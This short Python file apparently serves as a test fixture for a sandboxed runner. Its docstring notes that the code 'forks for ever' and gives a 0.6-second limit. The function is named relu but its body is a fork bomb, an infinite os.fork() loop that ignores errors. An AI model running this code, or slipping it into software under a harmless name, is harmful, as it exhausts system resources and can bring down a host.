"""forks for ever -> it is bounded, and ends with its question
seconds: 0.6
"""
import os


def relu(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass
